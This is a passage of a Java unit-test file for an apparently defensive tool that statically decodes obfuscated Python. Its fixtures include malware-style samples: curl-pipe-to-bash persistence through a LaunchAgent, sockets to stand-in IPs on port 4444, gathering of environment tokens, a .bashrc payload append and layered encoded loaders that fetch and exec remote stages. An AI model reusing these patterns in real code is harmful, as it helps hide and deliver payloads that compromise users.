package dev.chainhunt.deobf.python;

import dev.chainhunt.deobf.Budget;
import dev.chainhunt.deobf.Value;
import dev.chainhunt.lang.python.PyParser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.util.List;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Input → decoded value pairs for every transform the evaluator undoes. Each case passes an
 * expression to {@code sink(...)} and checks the argument value the evaluator computed, and the
 * decode chain it recorded.
 */
class PyEvaluatorTest {

    /**
     * Evaluates {@code code} as {@code p-1/pkg/__init__.py} of a package whose other files are
     * {@code others} (file name under pkg/ to text); a module is imported relatively ({@code ._x})
     * or by its full name ({@code pkg._x}).
     */
    static PyModel evaluateInPackage(String code, java.util.Map<String, String> others) {
        java.util.Map<String, byte[]> files = new java.util.HashMap<>();
        files.put("p-1/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        others.forEach((name, text) -> files.put("p-1/pkg/" + name, text.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
        return PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("p-1/pkg/__init__.py", files,
                new ModuleFiles.Cache(), (importer, m) -> {
                    String name = m.startsWith("pkg.") ? m.substring(4) : m.startsWith(".") ? m.substring(1) : null;
                    return name != null && others.containsKey(name + ".py") ? "p-1/pkg/" + name + ".py" : null;
                }));
    }

    static PyModel evaluate(String code) {
        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults());
        assertThat(model.stopped()).as("evaluation stopped").isNull();
        return model;
    }

    /** The first argument of the last call to sink(...). */
    static Value sunk(String code) {
        List<PyModel.CallSite> sinks = evaluate(code).calls().stream().filter(c -> c.callee().equals("sink")).toList();
        assertThat(sinks).as("calls to sink").isNotEmpty();
        return sinks.get(sinks.size() - 1).args().get(0);
    }

    static Stream<Arguments> transforms() {
        return Stream.of(
                // constants, operators, formatting
                Arguments.of("sink('ex' + 'ec')", "exec", List.of()),
                Arguments.of("sink('%s://%s/%d' % ('https', 'example.invalid', 7))", "https://example.invalid/7", List.of()),
                Arguments.of("sink('%(s)s://%(h)s/%(n)03d%%' % {'s': 'https', 'h': 'example.invalid', 'n': 7})", "https://example.invalid/007%", List.of()),
                Arguments.of("sink('%-4s|%5.2s|%#x|%+d|%*d|%o|%.3d' % ('ab', 'xyz', 255, 3, 4, 7, 8, -5))", "ab  |   xy|0xff|+3|   7|10|-005", List.of()),
                Arguments.of("sink('{}://{host}/{0}'.format('https', host='example.invalid'))", "https://example.invalid/https", List.of()),
                Arguments.of("h = 'example.invalid'\nsink(f'https://{h}/{1 + 1}')", "https://example.invalid/2", List.of()),
                Arguments.of("sink('x' * 3 + str(2 ** 10))", "xxx1024", List.of()),
                Arguments.of("sink(str((0x0f << 4 | 3) ^ 0b101 & ~0))", "246", List.of()),
                Arguments.of("sink(hex(255) + oct(8) + bin(5))", "0xff0o100b101", List.of()),
                Arguments.of("sink(str(int('ff', 16) + int('0o17', 0)))", "270", List.of()),
                // joins, chr, map, getattr over builtins
                Arguments.of("sink(''.join([chr(104), chr(105)]))", "hi", List.of("chr")),
                Arguments.of("sink(''.join(chr(c) for c in [101, 118, 97, 108]))", "eval", List.of("chr")),
                Arguments.of("sink(''.join(map(chr, [111, 115])))", "os", List.of("chr")),
                Arguments.of("sink(''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2]"
                        + " + copyright.__str__()[4 << 0]), [(((1 << 4) - 1) << 3) - 1, ((((3 << 2) + 1)) << 3) + 1,"
                        + " (7 << 4) - (1 << 1), ((((3 << 2) + 1)) << 2) - 1, (((3 << 3) + 1) << 1)])))", "win32", List.of("chr")),
                Arguments.of("sink(str(oct) + repr('a'))", "<built-in function oct>'a'", List.of()),
                Arguments.of("sink(str(int))", "<class 'int'>", List.of()),
                // slicing and sequences
                Arguments.of("sink('dilavni.elpmaxe//:sptth'[::-1])", "https://example.invalid", List.of("reverse")),
                Arguments.of("sink('abcdef'[1:5:2] + 'xyz'[-1])", "bdz", List.of()),
                Arguments.of("sink(bytes([104, 116, 116, 112]).decode())", "http", List.of("int-list")),
                Arguments.of("sink(bytearray([111, 115]).decode())", "os", List.of("int-list")),
                Arguments.of("sink(bytes.fromhex('6f73 2e73797374656d').decode())", "os.system", List.of("hex")),
                // str and bytes methods
                Arguments.of("sink('e_x_e_c'.replace('_', ''))", "exec", List.of()),
                Arguments.of("sink('  OS '.strip().lower())", "os", List.of()),
                Arguments.of("sink('a,b,c'.split(',')[1].upper())", "B", List.of()),
                Arguments.of("m, _, a = 'builtins:exec'.partition(':')\nsink(a + m + 'x.y.z'.rpartition('.')[0] + 'q'.rpartition('.')[2])", "execbuiltinsx.yq", List.of()),
                Arguments.of("sink('hello'.translate(str.maketrans('el', 'ip')))", "hippo", List.of("translate")),
                Arguments.of("sink('h\\u00e9'.encode('utf-8').decode('latin-1'))", "h\u00c3\u00a9", List.of()),
                Arguments.of("sink(b'  ping  '.strip().decode())", "ping", List.of()),
                // base64 in every variant
                Arguments.of("import base64\nsink(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ='))", "https://example.invalid", List.of("base64")),
                Arguments.of("import base64\nsink(base64.urlsafe_b64decode('-__-IGh0dHBzOi8vZXhhbXBsZS5pbnZhbGlkL3U_')[4:])", "https://example.invalid/u?", List.of("base64")),
                Arguments.of("import base64\nsink(base64.b32decode('NB2HI4DTHIXS6ZLYMFWXA3DFFZUW45TBNRUWILZTGI======'))", "https://example.invalid/32", List.of("base32")),
                Arguments.of("import base64\nsink(base64.b32hexdecode('D1Q78S3J78NIUPBOC5MN0R355PKMSTJ1DHKM8BPJ68======'))", "https://example.invalid/32", List.of("base32hex")),
                Arguments.of("import base64\nsink(base64.b16decode('68747470733A2F2F6578616D706C652E696E76616C69642F3136'))", "https://example.invalid/16", List.of("base16")),
                Arguments.of("import base64\nsink(base64.b85decode('XmoUNb2=|CWq4t2aBO8RX>N95Y-waKI5h'))", "https://example.invalid/85", List.of("base85")),
                Arguments.of("import base64\nsink(base64.a85decode('BQS?8F#ks-AU%X#E,9)<Bl8*&Ch[E5@5p+'))", "https://example.invalid/a85", List.of("ascii85")),
                Arguments.of("import base64\nsink(base64.a85decode('<~BQS?8F#ks-AU%X#E,9)<Bl8*&Ch[E5@5p+~>'))", "https://example.invalid/a85", List.of("ascii85")),
                Arguments.of("import base64\nsink(base64.decodebytes(b'aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=\\n'))", "https://example.invalid", List.of("base64")),
                Arguments.of("import codecs\nsink(codecs.decode(b'aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=', 'base64'))", "https://example.invalid", List.of("base64")),
                Arguments.of("import binascii\nsink(binascii.a2b_base64('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ='))", "https://example.invalid", List.of("base64")),
                // hex and rot13
                Arguments.of("import binascii\nsink(binascii.unhexlify('68747470'))", "http", List.of("hex")),
                Arguments.of("import codecs\nsink(codecs.decode('68747470', 'hex'))", "http", List.of("hex")),
                Arguments.of("import codecs\nsink(codecs.decode('uggcf://rknzcyr.vainyvq/e', 'rot13'))", "https://example.invalid/r", List.of("rot13")),
                Arguments.of("import codecs\nsink(codecs.encode('uggcf', 'rot_13'))", "https", List.of("rot13")),
                Arguments.of("import base64, codecs\nsink(base64.b64decode(codecs.getencoder('utf-8')('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=')[0]))", "https://example.invalid", List.of("base64")),
                Arguments.of("import codecs\nsink(codecs.getdecoder('rot13')('uggcf')[0])", "https", List.of("rot13")),
                // decompression of constant data
                Arguments.of("import zlib, base64\nsink(zlib.decompress(base64.b64decode('eJzLKCkpKLbS10+tSMwtyEnVy8wrS8zJTNGvAgB7EQl2')))", "https://example.invalid/z", List.of("base64", "zlib")),
                Arguments.of("import gzip, base64\nsink(gzip.decompress(base64.b64decode('H4sIAAAAAAACA8soKSkottLXT61IzC3ISdXLzCtLzMlM0U8HALiodzwZAAAA')))", "https://example.invalid/g", List.of("base64", "gzip")),
                Arguments.of("import bz2, base64\nsink(bz2.decompress(base64.b64decode('QlpoOTFBWSZTWciygrgAAAWZgAABgBA2Z01AIAAxQ00wAFGJ6gxNqBQ00VeEdO1Fh4tiifi7kinChIZFlBXA')))", "https://example.invalid/b", List.of("base64", "bz2")),
                Arguments.of("import lzma, base64\nsink(lzma.decompress(base64.b64decode('/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAYaHR0cHM6Ly9leGFtcGxlLmludmFsaWQvbAAAAADpoteM4DPKPQABMRlZGrCCH7bzfQEAAAAABFla')))", "https://example.invalid/l", List.of("base64", "lzma")),
                Arguments.of("import lzma, base64\nsink(lzma.decompress(base64.b64decode('XQAAgAD//////////wA0HSzgdXPvDKVIZF8CYjBmKP/XaMR4PudGQKBbpf/9R4AA')))", "https://example.invalid/a", List.of("base64", "lzma")),
                // XOR with a constant key
                Arguments.of("sink(bytes([c ^ 42 for c in [66, 94, 94, 90, 89, 16, 5, 5, 79, 82, 75, 71, 90, 70, 79, 4, 67, 68, 92, 75, 70, 67, 78, 5, 82]]))", "https://example.invalid/x", List.of("xor")),
                Arguments.of("k = b'k3y'\nd = [3, 71, 13, 27, 64, 67, 68, 28, 28, 19, 82, 20, 27, 95, 28, 69, 90, 23, 29, 82, 21, 2, 87, 86, 0]\n"
                        + "sink(''.join(chr(c ^ k[i % len(k)]) for i, c in enumerate(d)))", "https://example.invalid/k", List.of("chr", "xor")),
                Arguments.of("out = []\nfor c in 'bcdef':\n    out.append(chr(ord(c) - 1))\nsink(''.join(out))", "abcde", List.of("chr")),
                // sets filled by add/update keep each item once, in order of insertion
                Arguments.of("s = set()\nfor c in 'abca':\n    s.add(c)\ns.update(['d', 'b'])\nsink(''.join(s))", "abcd", List.of()),
                Arguments.of("s = {'x', 'y'}\ns.discard('x')\nsink(''.join(s))", "y", List.of()),
                // configparser over a text: sections, lower-cased options, continued values
                Arguments.of("import configparser\nc = configparser.ConfigParser()\nc.read_string('[a]\\nKey = x\\n  y\\n; note\\n[b]\\nk: z')\nsink(c.get('a', 'key') + c['b']['k'])", "x\nyz", List.of()),
                // partial, methodcaller and reduce are the calls they stand for
                Arguments.of("import functools, operator\nsink(functools.partial(str.replace, 'hxxps')('xx', 'tt'))", "https", List.of()),
                Arguments.of("import operator\nsink(operator.methodcaller('upper')('abc'))", "ABC", List.of()),
                Arguments.of("import functools\nsink(str(functools.partial(int, base=16)('ff')))", "255", List.of()),
                Arguments.of("import operator\nsink(operator.itemgetter(2, 0)('abc')[1] + operator.itemgetter('k')({'k': 'v'}))", "av", List.of()),
                Arguments.of("import functools\nsink(functools.reduce(lambda a, b: a + b, ['ht', 'tp', 's']))", "https", List.of()),
                Arguments.of("import functools, operator\nsink(functools.reduce(operator.add, map(chr, [101, 120, 101, 99])) + chr(operator.xor(0x41, 0x20)))", "execa", List.of("chr")),
                // Fernet with a literal key (the specification's own test vector)
                Arguments.of("from cryptography.fernet import Fernet\nsink(Fernet(b'cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=')"
                        + ".decrypt(b'gAAAAAAdwJ6wAAECAwQFBgcICQoLDA0ODy021cpGVWKZ_eEwCGM4BLLF_5CV9dOPmrhuVUPgJobwOz7JcbmrR64jVmpU4IwqDA=='))", "hello", List.of("fernet")),
                // functions that return constants, and small decoders
                Arguments.of("def k():\n    return 'ex' + 'ec'\nsink(k())", "exec", List.of()),
                Arguments.of("import base64\ndef d(s):\n    return base64.b64decode(s[::-1]).decode()\nsink(d('=QWasFmdulmLlxGctFGel9yL6MHc0RHa'))", "https://example.invalid", List.of("reverse", "base64")),
                Arguments.of("f = lambda s: ''.join(chr(ord(c) ^ 1) for c in s)\nsink(f('dydb'))", "exec", List.of("chr", "xor")),
                // config texts parsed as the data they hold
                Arguments.of("import json\nsink(json.loads('{\"a\": [\"x\", {\"b\": \"https\"}], \"n\": 2}')['a'][1]['b'])", "https", List.of()),
                Arguments.of("import yaml\nsink(yaml.safe_load('hooks:\\n  on_load: |\\n    import os\\n  n: 2\\n')['hooks']['on_load'])",
                        "import os\n", List.of()),
                // **kwargs holds the keywords no named parameter takes; cls.method() runs the classmethod
                Arguments.of("def f(a, **kw):\n    return kw[a] + kw['b']\nsink(f(a='x', x='ht', b='tps'))", "https", List.of()),
                Arguments.of("def f(**kw):\n    return str(sorted(kw))\nsink(f())", "[]", List.of()),
                Arguments.of("class A:\n    X = 'ps'\n    @classmethod\n    def p(cls):\n        return 'htt' + cls.X\n"
                        + "    @classmethod\n    def q(cls):\n        return cls.p() + ':'\nsink(A.q())", "https:", List.of()),
                // quoted-printable, with a soft line break
                Arguments.of("import quopri, codecs\nsink((quopri.decodestring(b'=68=74=\\n=74p') + codecs.decode(b'=3A', 'quopri')).decode())",
                        "http:", List.of("quoted-printable")),
                // filters: an item the predicate may keep is kept; one it drops is dropped
                Arguments.of("import os\nsink('|'.join(filter(lambda p: p != 'b' and os.path.exists(p), ['a', 'b', 'c'])))",
                        "a|c", List.of()),
                // the module's docstring, dedented as textwrap and inspect do it
                Arguments.of("'''Doc.\n\n    x = 1\n      y = 2\n  \n'''\nimport textwrap\nsink(textwrap.dedent(__doc__.split('Doc.')[1]))",
                        "\n\nx = 1\n  y = 2\n\n", List.of()),
                Arguments.of("import inspect\nsink(inspect.cleandoc('''\n    First\n\tsecond\n      third\n\n'''))",
                        "First\n    second\n  third", List.of())
        );
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("transforms")
    void undoesTransform(String code, String expected, List<String> chain) {
        Value v = sunk(code);
        assertThat(PyValues.text(v)).isEqualTo(expected);
        assertThat(v.chain()).isEqualTo(chain);
    }

    @Test
    void strOfAPartlyKnownPathKeepsItsPiecesAndWithSuffixRenamesTheLast() {
        Value v = sunk("import tempfile\nfrom pathlib import Path\nsink(str((Path(tempfile.gettempdir()) / 'rt').with_suffix('.zip')))");
        assertThat(PyBuiltins.fragments(v)).containsExactly("/rt.zip");
        Value named = sunk("import tempfile\nfrom pathlib import Path\nsink((Path(tempfile.gettempdir()) / 'rt.tar.gz').with_name('x.py'))");
        assertThat(PyBuiltins.fragments(named)).containsExactly("/x.py");
    }

    @Test
    void aCounterGrownInALoopInsideABranchIsNotItsFirstValueAgain() {
        // n counts files of a folder that may exist: afterwards it may be anything, so the code
        // under `if n:` may run (a stealer sends what it zipped only when it found something).
        String code = """
                import os
                def count():
                    n = 0
                    if os.path.isdir('wallets'):
                        for f in os.listdir('wallets'):
                            n += 1
                    return n
                if count():
                    sink('sent')
                """;
        assertThat(PyValues.text(sunk(code))).isEqualTo("sent");
    }

    @Test
    void aPropertyReadThroughSelfRunsItsGetter() {
        PyModel model = evaluate("""
                import plistlib
                from pathlib import Path
                class Agent:
                    label = 'com.example.sync'
                    @property
                    def path(self):
                        return Path.home() / 'Library' / 'LaunchAgents' / (self.label + '.plist')
                    @property
                    def program(self):
                        return ['/bin/bash', '-c', 'curl -fsSL https://example.invalid/a.sh | bash']
                    def install(self):
                        with open(self.path, 'wb') as fh:
                            plistlib.dump({'Label': self.label, 'ProgramArguments': self.program}, fh)
                """);
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("builtins.open")).singleElement()
                .satisfies(c -> assertThat(PyBuiltins.fragments(c.args().get(0))).contains("/Library/LaunchAgents/com.example.sync.plist"));
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("plistlib.dump")).singleElement()
                .satisfies(c -> assertThat(((Value.Dict) c.args().get(0)).values().get(1)).isInstanceOfSatisfying(Value.Seq.class,
                        program -> assertThat(PyValues.text(program.items().get(2))).isEqualTo("curl -fsSL https://example.invalid/a.sh | bash")));
    }

    @Test
    void aDataclassHoldsWhatItsFieldFactoriesReturnAndAsdictGivesThemAll() {
        String code = """
                import os, socket
                from dataclasses import dataclass, field, asdict
                def _secrets():
                    return {k: v for k, v in os.environ.items() if 'TOKEN' in k}
                @dataclass
                class Context:
                    host: str = field(default_factory=socket.gethostname)
                    env: dict = field(default_factory=_secrets)
                    level: int = 3
                sink(asdict(Context()))
                sink(Context().host)
                """;
        List<PyModel.CallSite> sinks = evaluate(code).calls().stream().filter(c -> c.callee().equals("sink")).toList();
        assertThat(sinks.get(0).args().get(0)).isInstanceOfSatisfying(Value.Dict.class, d -> {
            assertThat(d.keys()).extracting(PyValues::text).containsExactly("env", "host", "level");
            assertThat(Value.union(d.values().toArray(Value[]::new))).contains("socket.gethostname", "os.environ.items");
        });
        assertThat(sinks.get(1).args().get(0).from()).contains("socket.gethostname");
    }

    @Test
    void aGlobalSetInOneBranchOfAFunctionMayStillHoldItsEarlierValue() {
        // The module's code moved into a function that declares its names global: a flag cleared
        // on one path only (a lock file younger than 30 s) still lets the payload run on the other.
        String code = """
                import time
                def _init():
                    global ready
                    ready = True
                    if time.time() < 30:
                        ready = False
                    if ready:
                        sink('ran')
                _init()
                """;
        assertThat(PyValues.text(sunk(code))).isEqualTo("ran");
    }

    @Test
    void eitherOfTwoReturnedConstantsStaysKnownAsAPiece() {
        String code = """
                import os
                def pick(text):
                    if text.startswith('b'):
                        return 'bc1qexampleaddress'
                    return '0x000000000000000000000000000000000000dEaD'
                sink(pick(os.getcwd()))
                """;
        assertThat(PyBuiltins.fragments(sunk(code))).contains("bc1qexampleaddress", "0x000000000000000000000000000000000000dEaD");
    }

    @Test
    void aDigestOfKnownBytesIsKnown() {
        assertThat(PyValues.text(sunk("import hashlib\nh = hashlib.sha256(b'ab')\nh.update(b'c')\nsink(h.hexdigest())")))
                .isEqualTo("ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
        assertThat(PyValues.text(sunk("import hashlib, os\nh = hashlib.md5()\nh.update(os.urandom(8))\nsink(h.hexdigest())"))).isNull();
    }

    @Test
    void aTemplateIsSubstitutedLikeAFormat() {
        assertThat(PyValues.text(sunk("from string import Template\nsink(Template('$a -x ${b}s $$1').substitute({'a': 'curl'}, b='http'))")))
                .isEqualTo("curl -x https $1");
    }

    @Test
    void aLaterReturnDoesNotHideAnEarlierOneThatMayHaveRun() {
        String code = """
                import os, platform
                def shell():
                    if platform.system().startswith('Linux'):
                        return os.path.basename(os.environ.get('SHELL'))
                    return None
                def patch():
                    kind = shell()
                    if kind == 'bash':
                        rc = os.path.expanduser('~/.bashrc')
                    else:
                        return
                    with open(rc, 'a') as f:
                        f.write('payload')
                """;
        assertThat(evaluate(code).calls()).anySatisfy(c -> {
            assertThat(c.callee()).isEqualTo("builtins.open");
            assertThat(c.scope()).isEqualTo("patch");
        });
    }

    @Test
    void aReturnInsideATryWithHandlersIsOnePossibility() {
        // The import may fail and the handler's way goes on; both answers of a check stay possible.
        String code = """
                import os, subprocess
                def ensure():
                    try:
                        import _speedups
                        return
                    except ImportError:
                        pass
                    os.system('pip install helper')
                def installed():
                    try:
                        subprocess.check_output('java -version', shell=True)
                        return True
                    except subprocess.CalledProcessError:
                        return False
                    else:
                        os.system('never: the body returned')
                def main():
                    if not installed():
                        os.system('install java')
                """;
        List<String> commands = evaluate(code).calls().stream().filter(c -> c.callee().equals("os.system"))
                .map(c -> PyValues.text(c.args().get(0))).toList();
        assertThat(commands).contains("pip install helper", "install java").doesNotContain("never: the body returned");
    }

    @Test
    void keywordArgumentsKeepTheirSourceOrder() {
        // Rules take the first argument that matches as evidence: the order must not vary between runs.
        PyModel model = evaluate("import requests\nrequests.post(url='u', data='d', files='f', json='j', params='p', headers='h')\n");
        assertThat(model.calls()).singleElement().satisfies(c ->
                assertThat(c.keywords().keySet()).containsExactly("url", "data", "files", "json", "params", "headers"));
    }

    @Test
    void fourLayersEndingInASecondStageWithAUrl() {
        // hex → reversed → base64 → zlib → base64 → Python that downloads and runs a third stage
        String code = "import base64, zlib, binascii\n"
                + "blob = '3d38314b554632446a66714935766672444b31515a57653532624f3764677244356e5778523643355341697242366c5350415135584d4c57556f317848784f664a412f2f7a7a4342554132686a516851652b6968314e546472706d546f363661714d4557754f2b33366b7534706d5a304d6a6e2b364f5838664845393276474c62635836323469707a4c6c4446774d314e347968426c6c6358424f41594169774b454d7964774a65'\n"
                + "exec(base64.b64decode(zlib.decompress(base64.b64decode(binascii.unhexlify(blob)[::-1]))))\n";
        PyModel model = evaluate(code);
        assertThat(model.stages()).singleElement().satisfies(stage -> {
            assertThat(stage.text()).contains("urlopen('https://example.invalid/stage3')");
            assertThat(stage.chain()).containsExactly("hex", "reverse", "base64", "zlib", "base64", "python");
            assertThat(stage.via()).isEqualTo("builtins.exec");
            assertThat(stage.origin()).isEqualTo(code.indexOf("'3d38"));
        });
    }

    @Test
    void codeKeptAsOneHugeIntegerIsDecodedByToBytes() {
        String code = "import timeit\n"
                + "_n = int('169415455642870356712023125320766510369046245897475350226806569')\n"
                + "timeit.timeit(stmt=_n.to_bytes((_n.bit_length() + 7) // 8, 'big').decode(), number=1)\n";
        PyModel model = evaluate(code);
        assertThat(model.stages()).singleElement().satisfies(stage -> {
            assertThat(stage.text()).isEqualTo("import os; os.system('id')");
            assertThat(stage.chain()).containsExactly("int", "python");
        });
        PyModel roundTrip = evaluate("x = int.from_bytes(b'\\x01\\x02', 'little')\nx.to_bytes(3, 'big')\n");
        assertThat(roundTrip.calls()).extracting(c -> PyValues.repr(c.result())).containsExactly("513");
        assertThat(roundTrip.decoded()).extracting(d -> PyValues.repr(d.value())).containsExactly("b'\\x00\\x02\\x01'");
    }

    @Test
    void codeHiddenInADocstringOrAnAnnotationIsReadBack() {
        String code = """
                import code
                def hints(session: 'import os; os.system("id")' = None) -> 'ret':
                    \"\"\"import socket; socket.create_connection(('203.0.113.1', 4444))\"\"\"
                    return []
                exec(hints.__doc__)
                code.InteractiveInterpreter().runsource(hints.__annotations__['session'])
                """;
        PyModel model = evaluate(code);
        assertThat(model.stages()).extracting(PyModel.Stage::text).containsExactly(
                "import socket; socket.create_connection(('203.0.113.1', 4444))", "import os; os.system(\"id\")");
    }

    @Test
    void base64CodeAssembledButNeverDecodedIsAStageThatDoesNotRun() {
        // The loader that would decode and run it is missing (cut off, or in another file).
        String code = "part_a = 'aW1wb3J0IG9zCmltcG9ydCB1cmxsaWIucmVxdWVzdAoKZGVmIGJlYWNvbigpOgogICAgcmV0dXJuIHVybGxpYi5yZXF1ZXN0LnVybG9wZW4oJ2h0dHBzOi8vZXhhbXBsZS5pbnZhbGlkL3A/dT0nIC'\n"
                + "part_b = 'sgb3MuZ2V0bG9naW4oKSkucmVhZCgpCgpiZWFjb24oKQojIHBhZGRpbmcgc28gdGhlIGJsb2IgaXMgbG9uZyBlbm91Z2ggdG8gYmUgd29ydGggYSBsb29rLCBhcyBwYWNrZWQgc3RhZ2VzIGFyZQo='\n"
                + "blob = part_a + part_b\n";
        PyModel model = evaluate(code);
        assertThat(model.stages()).singleElement().satisfies(stage -> {
            assertThat(stage.text()).contains("urlopen('https://example.invalid/p?u='");
            assertThat(stage.chain()).containsExactly("base64", "python");
            assertThat(stage.via()).isEqualTo("base64 text never decoded");
            assertThat(stage.scope()).isEqualTo(PyEvaluator.NEVER_RUN);
        });
        assertThat(evaluate("blob = '" + "QUJD".repeat(100) + "'\n").stages()).as("base64 of text, not code").isEmpty();
    }

    @Test
    void fernetWrappedSecondStage() {
        String code = "from fernet import Fernet\n"
                + "exec(Fernet(b'cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=').decrypt(b'gAAAAABrCWaWtSpr9_UDJKKjFW-r0jpnLvfe7QaNiigBP5LcPWeDwD3D6fukKdAhunDhHAAc6aYT_wOHWwJQwtMpj9T7aLLw3VwlSQQ5kffDLwEIrYRBpHHgKZEbCGusm12PGaIDHGItQiE38h-ZnygBdaRqmAV4DFXg18TVsOBOgzilVC4BbFqKa9nPO8hdNSEpKxBDEqzs'))\n";
        assertThat(evaluate(code).stages()).singleElement().satisfies(stage -> {
            assertThat(stage.text()).startsWith("import urllib.request");
            assertThat(stage.chain()).containsExactly("fernet", "python");
        });
    }

    @Test
    void serialisedCodeIsNotRunButKeptAsData() {
        PyModel model = evaluate("import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00\\x00https://example.invalid/m'))\n");
        assertThat(model.stages()).isEmpty();
        assertThat(model.decoded()).singleElement().satisfies(d -> {
            assertThat(d.chain()).containsExactly("marshal");
            assertThat(d.text()).contains("https://example.invalid/m");
        });
        assertThat(model.calls()).anySatisfy(c -> {
            assertThat(c.callee()).isEqualTo("builtins.exec");
            assertThat(c.args().get(0).from()).contains("marshal.loads");
        });
    }

    @Test
    void budgetsStopBombsAndExplosionsCleanly() {
        // 1 MiB of zeros per layer, compressed: the decompressor's cap, not memory, decides.
        String bomb = "import zlib\nx = zlib.decompress(" + "b'x\\x9c' + b'\\x00' * 10" + ")\n";
        assertThat(PyEvaluator.evaluate(PyParser.parse(bomb), Budget.defaults()).stopped()).isNull();
        PyModel exponential = PyEvaluator.evaluate(PyParser.parse("x = 'a'\n" + "x = x + x\n".repeat(200)), Budget.defaults());
        assertThat(exponential.stopped()).isNull();
        PyModel loop = PyEvaluator.evaluate(PyParser.parse("i = 0\nwhile True:\n    i += 1\n"), new Budget(50_000, 1 << 20, 300));
        assertThat(loop.stopped()).contains("evaluation steps");
        PyModel power = PyEvaluator.evaluate(PyParser.parse("x = 2 ** 10 ** 9\nsink(x)\n"), Budget.defaults());
        assertThat(power.stopped()).isNull();
        assertThat(power.calls()).singleElement().satisfies(c -> assertThat(c.args().get(0)).isInstanceOf(Value.Opaque.class));
    }

    @Test
    void codeAfterAnEndlessLoopIsStillAnalysed() {
        String code = """
                import requests, base64
                i = 0
                while True:
                    i += 1
                def stage(url):
                    for n in range(10 ** 9):
                        pass
                    return requests.get(url).text
                exec(stage(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvcA==').decode()))
                """;
        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), new Budget(50_000, 1 << 20, 300));
        assertThat(model.stopped()).contains("evaluation steps").contains("without running loops");
        assertThat(model.calls()).anySatisfy(c -> {
            assertThat(c.callee()).isEqualTo("builtins.exec");
            assertThat(c.args().get(0).from()).contains("requests.get");
        });
        assertThat(model.calls()).anySatisfy(c -> {
            assertThat(c.callee()).isEqualTo("base64.b64decode");
            assertThat(c.result()).isInstanceOf(Value.Bytes.class);
        });
    }

    @Test
    void codeHandedToAnotherInterpreterIsSeenThrough() {
        String code = """
                import os, subprocess, sys
                os.system("echo Y3VybCBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2g= | base64 -d | bash")
                subprocess.Popen([sys.executable, "-c", "import os; os.system('id')"])
                subprocess.run(["powershell", "-NoP", "-enc", "SQBFAFgAIAAnAGgAaQAnAA=="])
                with open('x.py', 'w') as f:
                    f.write("import socket\\nsocket.create_connection(('203.0.113.9', 4444))\\n")
                os.system('python3 -c "import sys; print(sys.version)"')
                """;
        PyModel model = evaluate(code);
        assertThat(model.calls()).anySatisfy(c -> {
            assertThat(c.callee()).isEqualTo("os.system");
            assertThat(PyValues.text(c.args().get(0))).isEqualTo("curl https://example.invalid/x | sh");
            assertThat(c.args().get(0).chain()).containsExactly("base64");
        });
        assertThat(model.calls()).anySatisfy(c -> {
            assertThat(c.callee()).isEqualTo("subprocess.run");
            assertThat(PyValues.text(c.args().get(0))).isEqualTo("IEX 'hi'");
            assertThat(c.args().get(0).chain()).containsExactly("base64", "utf-16le");
        });
        assertThat(model.stages()).extracting(PyModel.Stage::via, PyModel.Stage::text).contains(
                org.assertj.core.groups.Tuple.tuple("python -c", "import os; os.system('id')"),
                org.assertj.core.groups.Tuple.tuple("written to a file",
                        "import socket\nsocket.create_connection(('203.0.113.9', 4444))\n"),
                org.assertj.core.groups.Tuple.tuple("python -c", "import sys; print(sys.version)"));
    }

    @Test
    void codeReadsTheFilesItsPackageShipsButNotItself() {
        String code = """
                import os
                here = os.path.dirname(os.path.abspath(__file__))
                with open(os.path.join(here, 'resources', 'x.dat')) as f:
                    exec(f.read())
                sink(open(__file__).read())
                sink(os.path.basename(__file__))
                """;
        java.util.Map<String, byte[]> files = java.util.Map.of(
                "pkg-1.0/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8),
                "pkg-1.0/pkg/resources/x.dat", "import os\nos.system('id')\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("pkg-1.0/pkg/__init__.py", files));
        assertThat(model.stages()).singleElement().satisfies(stage -> assertThat(stage.text()).contains("os.system('id')"));
        List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
        assertThat(PyValues.text(sinks.get(0).args().get(0))).as("the module's own source is not read back").isNull();
        assertThat(PyValues.text(sinks.get(1).args().get(0))).isEqualTo("__init__.py");
        assertThat(new ModuleFiles("pkg-1.0/pkg/__init__.py", files).read("/pkg-1.0/../../etc/passwd"))
                .as("no climbing out of the target").isNull();
    }

    @Test
    void aModuleOfAPackageKnowsItsNameButNotWhetherItIsMain() {
        String code = """
                import os
                sink(__name__.split('.')[0])
                def run():
                    if __name__ == '__main__':
                        os.system('echo main')
                    if __name__ == '__main__' and os.name == 'nt' or __name__ == '__init__':
                        os.system('echo either')
                run()
                if __name__ == "__main__" and os.name == "nt":
                    os.system('echo script')
                """;
        java.util.Map<String, byte[]> files = java.util.Map.of(
                "r-1/retries/__init__.py", new byte[0],
                "r-1/retries/sub/__init__.py", new byte[0],
